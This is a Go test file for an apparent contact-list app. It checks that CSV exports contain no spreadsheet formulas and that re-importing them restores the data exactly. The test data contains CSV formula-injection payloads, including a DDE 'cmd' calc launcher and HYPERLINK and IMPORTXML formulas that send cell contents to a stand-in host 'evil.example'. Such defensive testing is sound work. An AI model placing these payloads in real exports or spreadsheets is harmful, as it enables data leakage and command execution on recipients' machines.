package handlers

import (
	"context"
	"encoding/csv"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"testing"

	"greenlist/models"
	"greenlist/models/modelstest"
)

// nasty are values that spreadsheets calculate, programs cut in two, or people never see: 224 of them.
func nasty() (all []string) {
	begins := []string{"=", "+", "-", "@", "\t=", "\r\n+", "'", "'=", "''@", `"`, `""`, ";", ",", "|", " ", "\u200e="}
	bodies := []string{
		`1+1`, `cmd|' /C calc'!A0`, `HYPERLINK("http://evil.example/?"&A1,"Click")`, `SUM(A1:A9)*2`, `5`, `-5`, `'t Hart`, `"quoted"`, `a;b,c|d`, "two\r\nlines", "a\tb", `IMPORTXML(CONCAT("http://evil.example/",A1),"//a")`, `Zoë Łuczak-Ørsted`, `ends with '`,
	}
	for _, begin := range begins {
		for _, body := range bodies {
			all = append(all, begin+body)
		}
	}
	return all
}

// What was written down about people, however nasty, leaves as a list that no spreadsheet calculates, and comes back as it was, to the last sign.
func TestAListThatIsSavedIsReadBackAsItWas(t *testing.T) {
	eachSite(t, func(s *site) {
		there := newSite(s.T, modelstest.Open(s.T, modelstest.SQLite(s.T), s.clock.Now), s.clock)
		for _, one := range []*site{s, there} {
			for _, name := range []string{"Note", "=Favourite", "Score"} {
				kind := models.AttributeText
				if name == "Score" {
					kind = models.AttributeNumber
				}
				if _, err := models.CreateAttribute(context.Background(), one.db, models.System, models.NewAttribute{Name: name, Type: kind}); err != nil {
					s.Fatal(err)
				}
			}
		}
		values, wanted := nasty(), []models.Contact{}
		for i := range values {
			wanted = append(wanted, s.nastily(i, values))
		}
		list := s.as(models.Admin).get("/contacts.csv").is(http.StatusOK).text
		noFormulas(s.T, list)
		b := there.as(models.Admin)
		b.upload("/imports", "file", "contacts.csv", list).isAt("/imports/1").send("/imports/1/runs", nil).isAt("/imports/1")
		there.work()
		b.get("/imports/1").says("Finished").lacks("Rows to look at")
		lost := 0
		for _, c := range wanted {
			got, err := models.FindContactByAddress(context.Background(), there.db, c.PhoneNumber(), "")
			if err != nil || got.Name != c.Name || got.Language != c.Language || !slices.Equal(got.Tags, c.Tags) || !maps.Equal(got.Attributes, c.Attributes) {
				lost++
				s.Logf("%q %q %q came back as %q %q %q, %v", c.Name, c.Tags, c.Attributes, got.Name, got.Tags, got.Attributes, err)
			}
		}
		if lost > 0 || len(wanted) < 200 {
			s.Errorf("%d of %d people lost something", lost, len(wanted))
		}
	})
}

// nastily is somebody whose name, note, favourite and tags are the nth and three other values, as far as a tag can be one.
func (s *site) nastily(n int, values []string) models.Contact {
	s.Helper()
	ctx := context.Background()
	value := func(i int) string { return values[(n+i*41)%len(values)] }
	c, err := models.AddContact(ctx, s.db, models.System, models.NewContact{Phone: fmt.Sprintf("+31970%08d", 10_000_000+n), Source: "test"})
	if err != nil {
		s.Fatal(err)
	}
	tag := []rune(strings.Map(func(r rune) rune {
		if strings.ContainsRune(",;|", r) {
			return '.'
		}
		return r
	}, value(3)))
	d := models.ContactDetails{Name: value(0), Language: "nl", Tags: []string{string(tag[:min(len(tag), 45)]), "vip"}, Attributes: map[string]string{
		"note": value(1), "favourite": value(2), "score": fmt.Sprintf("%d.%03d0", n-100, n*37%1000),
	}}
	if err := c.Describe(ctx, s.db, models.System, d); err != nil {
		s.Fatalf("%+v: %v", d, err)
	}
	c, err = models.FindContact(ctx, s.db, c.ID)
	if err != nil || strings.Join(strings.Fields(c.Name), "") == "" {
		s.Fatal(c, err)
	}
	return c
}

// noFormulas fails where a cell begins with a sign at which spreadsheets begin to calculate.
func noFormulas(t *testing.T, list string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(list, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("a spreadsheet would calculate %q", cell)
			}
		}
	}
}
